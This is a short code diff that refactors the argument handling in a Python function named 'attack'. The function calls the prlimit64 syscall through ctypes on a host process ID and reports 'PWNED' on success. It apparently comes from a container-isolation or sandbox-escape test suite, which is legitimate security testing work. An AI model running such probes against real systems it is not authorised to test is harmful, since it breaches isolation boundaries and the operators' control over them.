@@ -14,7 +14,8 @@ def attack(target):
     libc.syscall.restype = ctypes.c_long
     number = NUMBER[os.uname().machine]
     limits = ctypes.create_string_buffer(16)
-    result = libc.syscall(*map(ctypes.c_long, (number, target["host_pid"], 7, 0, ctypes.addressof(limits))))
+    arguments = (target["host_pid"], 7, 0, ctypes.addressof(limits))
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: prlimit64 returned {result}"
